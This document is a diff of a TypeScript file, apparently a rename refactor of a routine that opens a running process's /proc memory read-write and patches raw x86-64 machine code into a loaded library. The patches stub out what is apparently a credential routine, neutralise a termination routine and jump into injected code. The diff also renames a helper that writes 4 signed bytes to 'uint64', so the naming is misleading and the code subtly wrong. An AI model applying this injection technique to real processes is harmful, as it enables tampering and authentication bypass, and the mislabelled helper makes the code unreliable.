@@ -41,16 +41,16 @@ export function serveParts(pid: number, host: string, port: number): void {
   const memory = openSync(`/proc/${pid}/mem`, 'r+');
   try {
     const library = startOfLibrary(pid);
-    const found = Buffer.alloc(BUILD.length / 2);
-    readSync(memory, found, 0, found.length, library + BUILD_AT);
-    if (found.toString('hex') !== BUILD) {
+    const buildId = Buffer.alloc(BUILD.length / 2);
+    readSync(memory, buildId, 0, buildId.length, library + BUILD_AT);
+    if (buildId.toString('hex') !== BUILD) {
       throw new Error(
-        `the addresses are those of another build of the library: ${found.toString('hex')}`,
+        `the addresses are those of another build of the library: ${buildId.toString('hex')}`,
       );
     }
     const write = (at: number, ...bytes: readonly (Buffer | readonly number[])[]): void => {
-      const all = Buffer.concat(bytes.map((each) => Buffer.from(each)));
-      writeSync(memory, all, 0, all.length, library + at);
+      const message = Buffer.concat(bytes.map((each) => Buffer.from(each)));
+      writeSync(memory, message, 0, message.length, library + at);
     };
     write(IDENTITY_AT, randomBytes(16));
     write(
@@ -74,11 +74,11 @@ export function serveParts(pid: number, host: string, port: number): void {
     write(
       CREDENTIALS_AT,
       [0x48, 0x8d, 0x05],
-      long(ROOM_AT - (CREDENTIALS_AT + 7)),
+      uint64(ROOM_AT - (CREDENTIALS_AT + 7)),
       [0x31, 0xd2, 0xc3],
     );
     write(TERMINATE_AT, [0xc3]);
-    write(STATEMENTS_AT, [0xe9], long(PARTS_AT - (STATEMENTS_AT + 5)));
+    write(STATEMENTS_AT, [0xe9], uint64(PARTS_AT - (STATEMENTS_AT + 5)));
   } finally {
     closeSync(memory);
   }
@@ -98,15 +98,15 @@ function giveString(text: string): Buffer {
   string.write(text);
   string[STRING_BYTES - 1] = text.length;
   return Buffer.concat(
-    [0, 8, 16].flatMap((at) => [
+    [0, 8, 16].flatMap((offset) => [
       Buffer.from([0x48, 0xb8]),
-      string.subarray(at, at + 8),
-      Buffer.from([0x48, 0x89, 0x47, at]),
+      string.subarray(offset, offset + 8),
+      Buffer.from([0x48, 0x89, 0x47, offset]),
     ]),
   );
 }
 
-function long(value: number): Buffer {
+function uint64(value: number): Buffer {
   const bytes = Buffer.alloc(4);
   bytes.writeInt32LE(value);
   return bytes;
